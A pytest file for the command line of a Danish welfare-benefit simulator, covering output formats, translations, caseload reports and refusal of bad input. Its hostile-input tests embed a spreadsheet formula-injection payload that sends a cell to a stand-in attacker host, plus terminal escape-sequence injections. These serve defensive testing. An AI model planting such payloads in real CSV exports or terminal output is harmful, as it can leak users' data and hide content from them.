"""The command line as users script it (SCENARIO_FORMAT.md "The command line"): `cli.main` in this process
(tests/cli_runner.py), and a few tests as a real `python -m simulator` process.

Good files: exit 0, the table or exactly one JSON document. Bad files: exit 2, exactly one line on stderr
that starts with the field it is about, and nothing at all on stdout.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import re
import subprocess
from pathlib import Path

import pytest
import yaml

from simulator.errors import FIELD_CHARS
from simulator.i18n import translator
from simulator.untrusted import one_line
from tests.cli_runner import in_a_process, in_process

ROOT = Path(__file__).resolve().parents[1]

GOOD = {
    "schema_version": 1,
    "title": "Single man at a centre, part-time kitchen job in Copenhagen",
    "date": "2014-11-01",
    "household": {
        "adults": [{"label": "Ali", "months_since_application": 14, "contract_kept": True}],
        "couple": False, "children": 0, "phase": 2, "procedure": "normal",
        "housing": "centre_self_catering", "housing_cost_per_month": None,
    },
    "accommodation_charge": {"mode": "income_tested", "amount_per_month": 0},
    "reform": {},
    "options": [
        {"name": "Part-time kitchen job", "work": [
            {"adult": 0, "kind": "job", "hours_per_week": 20, "hourly_wage": 115.38,
             "transport_per_month": 1700}]},
        {"name": "Full-time kitchen job", "work": [
            {"adult": 0, "kind": "job", "hours_per_week": 37, "hourly_wage": 115.38,
             "transport_per_month": 1700}]},
    ],
}

TOP_FIELDS = ["schema_version", "rules_date", "period", "reform", "assumptions", "options"]
OPTION_FIELDS = [
    "name", "gross_wage", "labour_market_contribution", "income_tax", "net_wage", "basic_allowance",
    "supplementary_allowance", "child_supplement", "allowances_before_offset", "offset", "allowances_paid",
    "accommodation_charge", "transport", "housing_cost", "disposable_income", "gain_vs_no_work",
    "participation_tax_rate", "gain_per_hour", "warnings",
]


cli = in_process


def write(tmp_path: Path, content, name: str = "scenario.yaml") -> Path:
    path = tmp_path / name
    text = content if isinstance(content, str) else yaml.safe_dump(content, sort_keys=False, allow_unicode=True)
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture
def good(tmp_path) -> Path:
    return write(tmp_path, GOOD)


# --------------------------------------------------------------------------------------------------
# the real command, where the process itself is the point: its exit status, its streams, its encoding


def test_the_real_command_prints_the_table_and_exits_0(good):
    proc = in_a_process("run", good)
    assert proc.returncode == 0 and proc.stderr == ""
    assert proc.stdout == in_process("run", good).stdout


def test_the_real_command_prints_one_json_document(good):
    proc = in_a_process("run", good, "--json")
    assert proc.returncode == 0 and proc.stderr == ""
    assert json.loads(proc.stdout) == json.loads(in_process("run", good, "--json").stdout)


def test_the_real_command_refuses_a_bad_file_in_one_line_and_exits_2(tmp_path):
    path = write(tmp_path, changed(_set("household.children", 13)))
    assert_refused(in_a_process("run", path, "--json"), "household.children")


def test_the_real_command_sweeps_to_csv(good):
    proc = in_a_process("sweep", good, "--over", "hours", "--csv")
    assert proc.returncode == 0 and proc.stdout == in_process("sweep", good, "--over", "hours", "--csv").stdout


def test_the_real_command_refuses_an_unknown_option_with_argparse_status_2(good):
    proc = in_a_process("run", good, "--no-such-option")
    assert proc.returncode == 2 and proc.stdout == ""


# --------------------------------------------------------------------------------------------------
# run


def test_run_prints_the_table_in_danish(good):
    proc = cli("run", good, "--lang", "da")
    assert proc.returncode == 0, proc.stderr
    basic = next(line for line in proc.stdout.splitlines() if line.startswith("Grundydelse"))
    assert "1.619" in basic  # Danish thousands separator
    assert "Rådighedsbeløb" in proc.stdout and "Intet arbejde" in proc.stdout


def test_run_prints_the_table(good):
    proc = cli("run", good)
    assert proc.returncode == 0, proc.stderr
    assert proc.stderr == ""
    out = proc.stdout
    assert GOOD["title"] in out
    assert "2014-11-01" in out and "per month" in out
    header = next(line for line in out.splitlines() if "No work" in line)
    assert header.index("No work") < header.index("Part-time kitchen job") < header.index("Full-time kitchen job")
    for label in ("Gross wage", "grundydelse", "Offset", "Allowances paid", "Left to live on",
                  "Better off than with no work"):
        assert label in out, label
    # whole kroner: 53.24 × 365/12 = 1,619.38 shows as 1,619; the seed's job leaves him 1,700 kr worse off
    basic = next(line for line in out.splitlines() if line.startswith("Basic allowance (grundydelse)"))
    assert "1,619" in basic and "1,619." not in basic
    gain = next(line for line in out.splitlines() if line.startswith("Better off"))
    assert "−1,700" in gain or "-1,700" in gain
    with pytest.raises(json.JSONDecodeError):
        json.loads(out)


def test_run_json_prints_one_document_with_the_contract_fields(good):
    proc = cli("run", good, "--json")
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(proc.stdout)  # fails on anything but exactly one JSON document
    assert isinstance(doc, dict)
    assert set(TOP_FIELDS) <= set(doc), set(TOP_FIELDS) - set(doc)
    assert doc["schema_version"] == 1 and doc["rules_date"] == "2014-11-01" and doc["period"] == "month"
    assert doc["reform"] == {}
    assert isinstance(doc["assumptions"], list) and all(isinstance(a, str) for a in doc["assumptions"])
    assert [o["name"] for o in doc["options"]] == ["No work", "Part-time kitchen job", "Full-time kitchen job"]
    for option in doc["options"]:
        assert set(OPTION_FIELDS) <= set(option), set(OPTION_FIELDS) - set(option)
        for key in OPTION_FIELDS[1:-3]:
            assert isinstance(option[key], float | int) and round(option[key], 2) == option[key], key
        for w in option["warnings"]:
            assert set(w) >= {"code", "message", "source"}
    no_work, part_time, _ = doc["options"]
    assert no_work["basic_allowance"] == 1619.38 and no_work["supplementary_allowance"] == 945.05
    assert no_work["disposable_income"] == 2564.43 and no_work["gain_vs_no_work"] == 0.0
    assert no_work["participation_tax_rate"] is None and no_work["gain_per_hour"] is None
    assert part_time["gross_wage"] == 9999.6 and part_time["gain_vs_no_work"] == -1700.0
    assert part_time["allowances_paid"] == 0.0 and part_time["accommodation_charge"] == 3635.32  # 6,199.752 − 2,564.429


def test_run_period_14d(good):
    proc = cli("run", good, "--json", "--period", "14d")
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(proc.stdout)
    assert doc["period"] == "14d"
    no_work, part_time, _ = doc["options"]
    assert no_work["basic_allowance"] == round(53.24 * 14, 2)
    assert no_work["supplementary_allowance"] == round(31.07 * 14, 2)
    assert part_time["gross_wage"] == round(115.38 * 20 * 2, 2)
    assert part_time["transport"] == round(1700 * 14 * 12 / 365, 2)
    table = cli("run", good, "--period", "14d")
    assert table.returncode == 0 and "per 14 days" in table.stdout


def test_run_explain_shows_formulas_and_sources(good):
    proc = cli("run", good, "--explain")
    assert proc.returncode == 0, proc.stderr
    out = proc.stdout
    assert "Why — Part-time kitchen job" in out
    assert "365/12" in out and "52/12" in out
    assert "allowance.basic.single = 53.24" in out
    assert "BEK nr. 1547/2013" in out       # the source of the 2014 rates
    assert "tax.income_tax_rate = 0.3 [law]" in out and "§ 48 B" in out


def test_run_with_a_reform_file(good):
    reform = ROOT / "scenarios" / "reforms" / "transport-deduction.yaml"
    proc = cli("run", good, "--json", "--reform", reform)
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(proc.stdout)
    assert doc["reform"] == {"offset.deduct_transport": True}
    assert doc["options"][1]["gain_vs_no_work"] == 0.0


# --------------------------------------------------------------------------------------------------
# sweep

CSV_COLUMNS = ["rules", "option", "hours_per_week", "disposable_income", "gain_vs_no_work", "allowances_paid",
               "net_wage", "accommodation_charge", "extra_hour_earns_nothing"]


def test_sweep_csv(good):
    proc = cli("sweep", good, "--over", "hours", "--csv")
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
    assert rows and list(rows[0]) == CSV_COLUMNS
    assert {r["option"] for r in rows} == {"Part-time kitchen job", "Full-time kitchen job"}
    assert {r["rules"] for r in rows} == {"law"}
    grid = sorted({float(r["hours_per_week"]) for r in rows})
    assert len(grid) > 100 and grid[0] == 0.0 and len(rows) == 2 * len(grid)   # every option at every point
    at_0 = [r for r in rows if float(r["hours_per_week"]) == 0]
    # no hours: all allowances paid, but the commuter card of the work item is still paid (2,564.43 − 1,700)
    assert len(at_0) == 2 and all(float(r["allowances_paid"]) == 2564.43 for r in at_0)
    assert all(float(r["disposable_income"]) == 864.43 for r in at_0)
    # a grid with 20 h on it: 0, 0.5, ..., 45
    rows = list(csv.DictReader(io.StringIO(cli("sweep", good, "--over", "hours", "--csv", "--points", "91").stdout)))
    at_20 = next(r for r in rows if r["option"] == "Part-time kitchen job" and float(r["hours_per_week"]) == 20)
    assert float(at_20["gain_vs_no_work"]) == -1700.0


def test_sweep_json(good):
    proc = cli("sweep", good, "--over", "hours", "--json")
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(proc.stdout)
    assert doc["over"] == "hours" and doc["period"] == "month" and doc["rules"] == ["law"]
    grid = {row["hours_per_week"] for row in doc["rows"]}
    assert len(grid) > 100 and len(doc["rows"]) == 2 * len(grid)
    assert set(CSV_COLUMNS) <= set(doc["rows"][0])


def test_sweep_over_wage_with_a_reform(tmp_path):
    scenario = copy.deepcopy(GOOD)
    scenario["reform"] = {"offset.deduct_transport": True}
    proc = cli("sweep", write(tmp_path, scenario), "--over", "wage", "--json", "--points", "11")
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(proc.stdout)
    assert doc["over"] == "wage" and doc["rules"] == ["law", "reform"]
    assert len(doc["rows"]) == 2 * 2 * 11 and "hourly_wage" in doc["rows"][0]


# --------------------------------------------------------------------------------------------------
# bad files: exit 2, one line on stderr naming the field, nothing on stdout


def changed(edit) -> dict:
    scenario = copy.deepcopy(GOOD)
    edit(scenario)
    return scenario


def _set(path: str, value):
    def edit(s):
        *parents, last = path.split(".")
        node = s
        for p in parents:
            node = node[int(p)] if p.isdigit() else node[p]
        node[last] = value
    return edit


def _drop(path: str):
    def edit(s):
        *parents, last = path.split(".")
        node = s
        for p in parents:
            node = node[p]
        del node[last]
    return edit


def _both(*edits):
    def edit(s):
        for e in edits:
            e(s)
    return edit


HOURS = "options.0.work.0.hours_per_week"

# name -> (file content: a mapping to dump, or raw text; the field the message must start with).
# "FILE" stands for the file's own path (for problems with the file itself, not with a field in it).
BAD = {
    "missing date": (changed(_drop("date")), "date"),
    "missing household.adults": (changed(_drop("household.adults")), "household.adults"),
    "hours as words": (changed(_set(HOURS, "twenty")), HOURS),
    "negative hours": (changed(_set(HOURS, -5)), HOURS),
    "unknown housing": (changed(_set("household.housing", "castle")), "household.housing"),
    "too many children": (changed(_set("household.children", 13)), "household.children"),
    "unknown reform path": (changed(_set("reform", {"offset.speed": 2})), "reform.offset.speed"),
    "out-of-range reform value": (changed(_set("reform", {"offset.rate": 1.5})), "reform.offset.rate"),
    "infinite whole-number reform value": (changed(_set("reform", {"allowance.child.max_full": float("inf")})),
                                           "reform.allowance.child.max_full"),
    "couple with one adult": (changed(_set("household.couple", True)), "household.couple"),
    "own housing without rent": (changed(_set("household.housing", "own_housing")),
                                 "household.housing_cost_per_month"),
    "work by adult 1 of 1": (changed(_set("options.0.work.0.adult", 1)), "options.0.work.0.adult"),
    "date before 2013": (changed(_set("date", "2012-12-31")), "date"),
    "unknown field": (changed(_set("household.pets", 2)), "household.pets"),
    "bad date": (changed(_set("date", "2014-13-45")), "date"),
    "malformed YAML": ("schema_version: 1\ndate: 2014-11-01\nhousehold: {adults: [{}]\noptions: []\n", "FILE"),
    "empty file": ("", "FILE"),
    "a list instead of a mapping": ("- schema_version: 1\n- date: 2014-11-01\n", "FILE"),
    "a bare word": ("hello\n", "FILE"),
}


def named(path: Path) -> str:
    """A file as a refusal names it: its path, cut to a field's length like every field of a message (a
    temporary directory's path can be longer, under pytest-xdist's per-worker directories for one)."""
    return one_line(str(path), FIELD_CHARS)


def assert_refused(proc: subprocess.CompletedProcess, field: str | tuple[str, ...]) -> str:
    assert proc.returncode == 2, f"exit {proc.returncode}; stderr: {proc.stderr!r}"
    assert proc.stdout == "", f"stdout must be empty, got {proc.stdout!r}"
    lines = proc.stderr.splitlines()
    assert len(lines) == 1, f"exactly one line on stderr, got {lines!r}"
    (line,) = lines
    fields = (field,) if isinstance(field, str) else field
    assert any(line.startswith(f"{f}: ") and len(line) > len(f) + 2 for f in fields), (
        f"stderr must start with one of {fields!r} and ': ' and say the problem, got {line!r}")
    return line


@pytest.mark.parametrize("case", sorted(BAD))
@pytest.mark.parametrize("command", [("run",), ("run", "--json"), ("sweep", "--csv")], ids=" ".join)
def test_bad_file_is_refused_with_its_field(tmp_path, case, command):
    content, field = BAD[case]
    path = write(tmp_path, content)
    # A problem with the file as a whole is named by the file (its path, or the word "file").
    expected = (named(path), "file") if field == "FILE" else field
    assert_refused(cli(command[0], path, *command[1:]), expected)


def test_missing_file_is_refused_naming_it(tmp_path):
    path = tmp_path / "no-such-scenario.yaml"
    line = assert_refused(cli("run", path, "--json"), named(path))
    assert "cannot be read" in line or "not found" in line.lower()


def test_messages_say_the_problem(tmp_path):
    line = assert_refused(cli("run", write(tmp_path, BAD["too many children"][0])), "household.children")
    assert line.startswith("household.children: must be between 0 and 12")
    line = assert_refused(cli("run", write(tmp_path, BAD["hours as words"][0])), HOURS)
    assert "number" in line and "twenty" in line
    line = assert_refused(cli("run", write(tmp_path, BAD["out-of-range reform value"][0])), "reform.offset.rate")
    assert "1.5" in line


# --------------------------------------------------------------------------------------------------
# hostile files and arguments (issue 8): refused in one short line naming the field, never a traceback

HOSTILE = {
    "a boolean for a number": (changed(_set("household.children", True)), "household.children"),
    "a yes/no phase": ("PHASE_YES", "household.phase"),
    "hours in YAML 1.1 base 60": ("HOURS_1_30", HOURS),
    "hours next to nothing": (changed(_set(HOURS, 5e-324)), HOURS),
    "an impossible date": (changed(_set("date", "2014-02-30")), "date"),
    "a 5,000-digit number": ("CHILDREN_5000_DIGITS", "household.children"),
    "a 400-digit reform value": (changed(_set("reform", {"allowance.child.max_full": 10**400})),
                                 "reform.allowance.child.max_full"),
}


def hostile_text(content) -> str:
    good = yaml.safe_dump(GOOD, sort_keys=False)
    return {
        "PHASE_YES": good.replace("phase: 2", "phase: yes"),
        "HOURS_1_30": good.replace("hours_per_week: 20", "hours_per_week: 1:30"),
        "CHILDREN_5000_DIGITS": good.replace("children: 0", "children: " + "9" * 5000),
    }.get(content, content) if isinstance(content, str) else content


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_values_are_refused_with_their_field(tmp_path, case):
    content, field = HOSTILE[case]
    line = assert_refused(cli("run", write(tmp_path, hostile_text(content)), "--json"), field)
    assert len(line) < 300 and "Exceeds the limit" not in line


def test_the_date_message_names_the_day(tmp_path):
    line = assert_refused(cli("run", write(tmp_path, HOSTILE["an impossible date"][0])), "date")
    assert line == "date: 2014-02-30 is not a real date"


def test_a_5_mb_bad_value_gives_a_short_line(tmp_path):
    text = yaml.safe_dump(GOOD, sort_keys=False).replace("housing: centre_self_catering",
                                                        "housing: " + "castle" * 800_000)
    line = assert_refused(cli("run", write(tmp_path, text)), named(tmp_path / "scenario.yaml"))
    assert len(line) < 300


def test_a_bad_reform_file_is_refused_by_its_field(tmp_path, good):
    reform = write(tmp_path, {"title": "Bad", "reform": {"offset.rate": "=1+1"}}, "reform.yaml")
    line = assert_refused(cli("run", good, "--json", "--reform", reform), "reform.offset.rate")
    assert "=1+1" in line


def test_sweep_csv_cells_never_run_as_formulas(tmp_path):
    scenario = copy.deepcopy(GOOD)
    scenario["options"][0]["name"] = '=HYPERLINK("http://evil.example/"&A1,"Details")'
    scenario["options"][1]["name"] = "-2+3"
    proc = cli("sweep", write(tmp_path, scenario), "--csv", "--points", "11")
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
    assert {r["option"] for r in rows} == {"'" + scenario["options"][0]["name"], "'-2+3"}
    # negative amounts are numbers, left as they are: the commuter card makes the gain negative at 0 hours
    assert any(r["gain_vs_no_work"].startswith("-") and float(r["gain_vs_no_work"]) < 0 for r in rows)
    assert all(not cell.startswith(("=", "+", "@")) for r in rows for cell in r.values())


def test_the_table_shows_names_without_control_characters(tmp_path):
    scenario = copy.deepcopy(GOOD)
    scenario["title"] = "Title\x1b[2J\rhidden"
    scenario["options"][0]["name"] = "Kitchen\x1b]8;;http://evil.example\x07job"
    proc = cli("run", write(tmp_path, scenario))
    assert proc.returncode == 0, proc.stderr
    assert "\x1b" not in proc.stdout and "\r" not in proc.stdout and "\x07" not in proc.stdout
    # control characters are removed where the name is read (untrusted.clean_name), not shown as "?"
    assert "Kitchen]8;;http://evil.examplejob" in proc.stdout


@pytest.mark.parametrize("points", ["1000000000", "0", "x"])
def test_sweep_points_out_of_range_are_refused(good, points):
    line = assert_refused(cli("sweep", good, "--csv", "--points", points), "--points")
    assert "2 to 10,001" in line


@pytest.mark.parametrize("failure,code,expected", [
    (RecursionError(), 2, "f.yaml: is nested too deeply to read"),
    (OverflowError("int too large to convert to float"), 2, "f.yaml: holds a number too large to compute with"),
    (MemoryError(), 2, "f.yaml: needs more memory than this machine has"),
    (UnicodeDecodeError("utf-8", b"\xff", 0, 1, "invalid start byte"), 2, "f.yaml: is not UTF-8 text"),
    (ValueError("Number of samples, -5, must be non-negative."), 2, "f.yaml: cannot be used (Number of samples"),
    (KeyError("x"), 1, "f.yaml: the simulator failed (KeyError)"),
])
def test_whatever_fails_below_the_checks_is_one_line_not_a_traceback(monkeypatch, capsys, failure, code, expected):
    from simulator import cli as cli_module

    def fail(_path):
        raise failure

    monkeypatch.setattr(cli_module, "load_scenario", fail)
    assert cli_module.main(["run", "f.yaml", "--json"]) == code
    out, err = capsys.readouterr()
    assert out == "" and err.startswith(expected) and err.count("\n") == 1


# The command line in the language asked for (issue 17): every line on stderr in that language, the field
# as the file names it, the exit status and the one-line shape as in English.

@pytest.fixture
def too_many_children(tmp_path) -> Path:
    return write(tmp_path, changed(_set("household.children", 14)), "children.yaml")


@pytest.mark.parametrize("lang,problem", [
    ("da", "skal være mellem 0 og 12 (fik 14)"),
    ("ar", "يجب أن يكون بين 0 و12 (القيمة: 14)"),
])
def test_a_bad_field_is_said_in_the_language_asked_for(too_many_children, monkeypatch, lang, problem):
    monkeypatch.delenv("KRONE_LANG", raising=False)
    line = assert_refused(cli("run", too_many_children, "--lang", lang), "household.children")
    assert line == f"household.children: {problem}"
    english = assert_refused(cli("run", too_many_children), "household.children")
    assert english == "household.children: must be between 0 and 12 (got 14)"


@pytest.mark.parametrize("lang,args,field,problem", [
    ("da", ("sweep", "{good}", "--points", "1"), "--points", "skal være et helt tal fra 2 til 10.001 (fik '1')"),
    ("ar", ("run", "{missing}"), "{missing}", "لا يمكن قراءته: الملف غير موجود"),
    ("da", ("run", "{good}", "--reform", "no-such-reform"), "--reform", "'no-such-reform' er hverken en fil"),
    ("da", ("sweep", "{good}", "--over", "days"), "--over", "ugyldigt valg: 'days'"),
    ("ar", ("run",), "الاستخدام", "الوسائط التالية مطلوبة: ملف"),
])
def test_usage_and_file_errors_are_said_in_the_language_asked_for(good, tmp_path, lang, args, field, problem):
    missing = str(tmp_path / "no-such.yaml")
    args = [a.format(good=good, missing=missing) for a in args]
    proc = cli(*args, "--lang", lang)
    assert proc.returncode == 2 and proc.stdout == "" and proc.stderr.count("\n") == 1, proc
    assert proc.stderr.startswith(field.format(missing=missing) + ": ") and problem in proc.stderr, proc.stderr


def test_an_unknown_language_is_refused_in_english_with_the_codes(good):
    line = assert_refused(cli("run", good, "--lang", "xx"), "--lang")
    assert "invalid choice: 'xx'" in line and all(f"'{code}'" in line for code in ("en", "da", "ar", "ckb", "ru"))


def test_krone_lang_is_the_language_when_lang_is_absent(good, too_many_children, monkeypatch):
    monkeypatch.setenv("KRONE_LANG", "da")
    assert assert_refused(cli("run", too_many_children), "household.children").endswith("(fik 14)")
    assert "Regler gældende" in cli("run", good).stdout
    # --lang wins over the environment
    assert assert_refused(cli("run", too_many_children, "--lang", "en"), "household.children").endswith("(got 14)")
    monkeypatch.setenv("KRONE_LANG", "klingon")
    line = assert_refused(cli("run", good), "KRONE_LANG")
    assert "invalid choice: 'klingon'" in line and "'da'" in line


def test_the_system_locale_does_not_change_the_language(good, too_many_children, monkeypatch):
    """Scripts see English whatever LANG or LANGUAGE say: only --lang and KRONE_LANG choose."""
    monkeypatch.delenv("KRONE_LANG", raising=False)
    monkeypatch.setenv("LANG", "da_DK.UTF-8")
    monkeypatch.setenv("LANGUAGE", "da")
    assert assert_refused(cli("run", too_many_children), "household.children").endswith("(got 14)")


def test_help_is_in_the_language_asked_for():
    proc = cli("run", "--help", "--lang", "da")
    assert proc.returncode == 0 and proc.stdout.startswith("brug: python -m simulator run")
    assert "vis denne hjælp og afslut" in proc.stdout and "show this help" not in proc.stdout
    english = cli("run", "--help")
    assert english.stdout.startswith("usage: python -m simulator run") and "show this help" in english.stdout


def test_the_json_keys_stay_english_in_every_language(good):
    """The JSON document is the public contract: its keys do not follow --lang."""
    proc = cli("run", good, "--json", "--lang", "ar")
    assert proc.returncode == 0 and list(json.loads(proc.stdout)) == TOP_FIELDS


# --------------------------------------------------------------------------------------------------
# the caseload's report and frontier table in a language (issue 17): the workbench's labels, the language's
# number style, the reform names as typed; `--json` keeps its English keys

CASELOAD = ROOT / "scenarios" / "caseload" / "caseload-2014.csv"
CAP = "offset.transport_deduction_cap_per_month=0:2000:3"


def caseload(*args) -> str:
    proc = cli("caseload", CASELOAD, *args)
    assert proc.returncode == 0 and proc.stderr == "", proc.stderr
    return proc.stdout


def cells(line: str) -> list[str]:
    """A line of the report's tables as its cells (columns are two spaces or more apart)."""
    return re.split(r"\s{2,}", line.strip())


def row(text: str, label: str) -> list[str]:
    """The cells of the first line of `text` that starts with `label` (after its indent)."""
    return cells(next(line for line in text.splitlines() if line.strip().startswith(label)))


ENGLISH_WORDS = ("households", "Work pays", "Net cost", "against the law", "Winners", "Static model", "Frontier",
                 "Value", "Law")


def test_the_caseload_report_in_danish():
    text = caseload("--reform", "taper-50", "--lang", "da")
    lines = text.splitlines()
    assert lines[:2] == ["Tallene dækker 1.578 af 1.578 husstande i filen.", "Regler gældende pr. 2014-11-01."]
    assert row(text, "Gældende ret") == ["Gældende ret", "taper-50"]            # the reform's name as typed
    assert row(text, "Arbejde betaler sig (") == ["Arbejde betaler sig (gevinst på mindst 1 kr. om måneden)", "158",
                                                  "1.544"]
    # the reform's title in Danish (its file gives one), its figures with their range over the assumptions
    assert ("Modregn halvdelen af lønnen i stedet for hele (aftrapning på 50 %) [taper-50] over for gældende ret"
            in lines)
    assert row(text, "Nettoudgift for staten / år") == ["Nettoudgift for staten / år",
                                                        "+56.497.483 (+17.355.499 til +59.001.265)"]
    assert row(text, "Median ændring, kr. pr. måned") == ["Median ændring, kr. pr. måned", "+2.564 (0 til +2.564)"]
    assert row(text, "Gruppe") == ["Gruppe", "Husstande", "Arbejde betaler sig", "Vindere", "Tabere", "Gns. Δ",
                                   "Median Δ"]
    assert row(text, "Enlig voksen") == ["Enlig voksen", "908", "144 → 877", "839", "0", "+2.066", "+2.564"]
    assert any(line.startswith("  213 af 1.578 husstande: Efter endeligt afslag") for line in lines)
    assert not [w for w in ENGLISH_WORDS if w in text]
    # the same figure as the JSON, whose keys stay English in any language
    doc = json.loads(caseload("--reform", "taper-50", "--json", "--lang", "da"))
    cost = doc["reforms"][0]["net_cost_per_year"]["value"]
    assert "+" + translator("da").number(cost) == "+56.497.483"


def test_the_caseload_report_in_arabic():
    text = caseload("--reform", "taper-50", "--lang", "ar", "--period", "14d")
    lines = text.splitlines()
    assert lines[:2] == ["تشمل الأرقام 1,578 من أصل 1,578 أسرة في الملف.", "القواعد السارية في 2014-11-01."]
    assert row(text, "القانون") == ["القانون", "taper-50"]
    assert "مقاصّة نصف الأجر بدلًا من كله (تخفيض بنسبة 50 %) [taper-50] مقارنةً بالقانون" in lines
    # the state's flows per month and per year whatever the period; the gain changes per 14 days
    assert row(text, "صافي التكلفة على الدولة / سنة") == ["صافي التكلفة على الدولة / سنة",
                                                          "+56,497,483 (+17,355,499 إلى +59,001,265)"]
    assert row(text, "متوسط التغير، كرونة لكل 14 يومًا")[1].startswith("+1,373 (")
    # before ← after, as the workbench's cards write it in Arabic
    assert row(text, "بالغ واحد") == ["بالغ واحد", "908", "144 ← 877", "839", "0", "+951", "+1,180"]
    assert any(line.startswith("  213 من 1,578 أسرة: ") for line in lines)
    assert not re.search("[٠-٩۰-۹]", text)          # Arabic's digits are Western (CLDR): one digit system
    assert not [w for w in ENGLISH_WORDS if w in text]


def test_the_caseload_frontier_in_danish():
    text = caseload("--frontier", "offset.rate=0.1:1:4", "--lang", "da")
    lines = text.splitlines()
    assert lines[:3] == [
        "Grænsekurve for Aftrapning: andel af hver krone, der modregnes (offset.rate) på 1.578 husstande, "
        "regler gældende pr. 2014-11-01",
        "Arbejde betaler sig under gældende ret for 158 husstande.", ""]
    assert cells(lines[3]) == ["Værdi", "Nettoudgift for staten om året, kr.", "Arbejde betaler sig",
                               "Arbejde koster ikke længere penge"]
    da = translator("da")
    points = json.loads(caseload("--frontier", "offset.rate=0.1:1:4", "--json", "--lang", "da"))["points"]
    assert [cells(line) for line in lines[4:]] == [
        [value, da.number(p["net_cost_per_year"]), da.number(p["work_pays"]), da.number(p["no_longer_costs"])]
        for value, p in zip(["0,1", "0,4", "0,7", "1"], points, strict=True)]
    assert cells(lines[4])[1] == "148.197.096"
    assert not [w for w in ENGLISH_WORDS if w in text]


def test_the_caseload_frontier_in_arabic():
    text = caseload("--frontier", CAP, "--reform", "taper-50", "--lang", "ar")
    lines = text.splitlines()
    assert lines[0].startswith("منحنى الحدود لـ خصم المواصلات") and lines[0].endswith(
        "(offset.transport_deduction_cap_per_month) على 1,578 أسرة، القواعد السارية في 2014-11-01")
    # what every point shares: the switch the cap implies and the base reform, by path, in Arabic's words
    assert lines[1] == "كل نقطة تضبط أيضًا: offset.deduct_transport = نعم؛ offset.rate = 0.5"
    assert lines[2] == "العمل مجزٍ بموجب القانون لـ 158 أسرة."
    assert cells(lines[4]) == ["القيمة", "صافي التكلفة على الدولة في السنة، كرونة", "العمل مجزٍ",
                               "لم يعد العمل يكلّف مالًا"]
    assert [cells(line) for line in lines[5:]] == [["0", "56,497,483", "1,544", "1,037"],
                                                   ["1,000", "65,354,712", "1,573", "1,067"],
                                                   ["2,000", "67,716,976", "1,573", "1,071"]]
    assert not [w for w in ENGLISH_WORDS if w in text]


def test_the_caseload_tables_use_the_languages_digits():
    """Farsi writes Persian digits: every number of the frontier table and its heading (the date too)."""
    text = caseload("--frontier", "offset.rate=0.1:1:4", "--lang", "fa")
    assert "۱٬۵۷۸" in text and "۲۰۱۴-۱۱-۰۱" in text and "۰٫۱" in text
    assert not re.search("[0-9]", text), text
